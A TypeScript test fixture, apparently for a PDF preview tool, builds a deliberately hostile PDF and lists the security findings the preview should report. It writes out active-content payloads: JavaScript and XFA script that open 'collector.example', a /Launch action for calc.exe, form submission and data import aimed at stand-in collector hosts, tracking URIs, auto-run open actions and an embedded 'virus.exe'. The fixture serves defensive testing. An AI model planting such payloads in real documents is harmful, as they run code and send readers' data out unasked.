/** Everything that a document could ask a reader to do, and files and media that it brings along. */
import type { Hostile } from './index.ts';
import { Pdf } from './pdf.ts';

const ACTIONS = [
  '/S /JavaScript /JS (app.launchURL\\(\'https://collector.example/\'\\))', '/S /Launch /F (calc.exe) /Win << /F (calc.exe) /O (open) >>', '/S /GoToR /F (https://collector.example/a.pdf) /D [0 /Fit]',
  '/S /GoToE /T << /R /C /N (inner.pdf) >>', '/S /URI /URI (https://tracker.example/seen?who=1) /IsMap true', '/S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> /Flags 4',
  '/S /ImportData /F (\\\\\\\\collector.example\\\\share\\\\data.fdf)', '/S /ResetForm', '/S /Sound /Sound 6 0 R', '/S /Movie /T (film)', '/S /Rendition /OP 0 /R << /S /MR >>', '/S /RichMediaExecute /CMD << /C (go) >>',
  '/S /Named /N /Print', '/S /Hide /T (field)', '/S /SetOCGState /State [/OFF 6 0 R]', '/S /GoTo3DView /V /F', '/S /Thread /F (other.pdf) /D 0', '/S /Trans',
];

const REPORTED = ['undrawn-annotations', 'embedded-files', 'external-links', 'form-fields', 'launch-actions', 'multimedia', 'scripts', 'submit-actions'].map((code) => `preview.${code}`);

export const ACTING: Hostile[] = [
  { name: 'a document that wants to do everything', ends: 'drawn', findings: REPORTED, make: () => {
    const [script = ''] = ACTIONS;
    const links = ACTIONS.map((action, at) => `<< /Type /Annot /Subtype /Link /Rect [0 ${at * 20} 600 ${at * 20 + 20}] /A << ${action} /Next << ${script} >> >> >>`);
    const fields = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (x) /Rect [0 0 9 9] /AA << /K << ${script} >> /F << ${script} >> >> >>`;
    const media = ['/Subtype /RichMedia', '/Subtype /Movie /Movie << /F (https://tracker.example/film.mov) >>', '/Subtype /Screen', '/Subtype /3D', '/Subtype /FileAttachment /FS << /F (virus.exe) /EF << /F 6 0 R >> >>']
      .map((entries) => `<< /Type /Annot ${entries} /Rect [9 9 99 99] >>`);
    const page = Pdf.page('0 0 5 5 re f', `/Annots [${[...links, fields, ...media].join('\n')}] /AA << /O << ${script} >> /C << ${script} >> >>`);
    page.object(`<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >> /URI << /Base (https://tracker.example/) >>
      /Names << /JavaScript << /Names [(a) << ${script} >>] >> /EmbeddedFiles << /Names [(virus.exe) << /F (virus.exe) /EF << /F 6 0 R >> >>] >> >>
      /AcroForm << /XFA 6 0 R /Fields [] /NeedAppearances true >> >>`);
    page.stream('/Type /EmbeddedFile /F (https://tracker.example/stream) /FFilter /FlateDecode', '<xdp:xdp><script>xfa.host.gotoURL("https://collector.example/")</script></xdp:xdp>');
    return page.bytes('/Root 5 0 R');
  } },
];
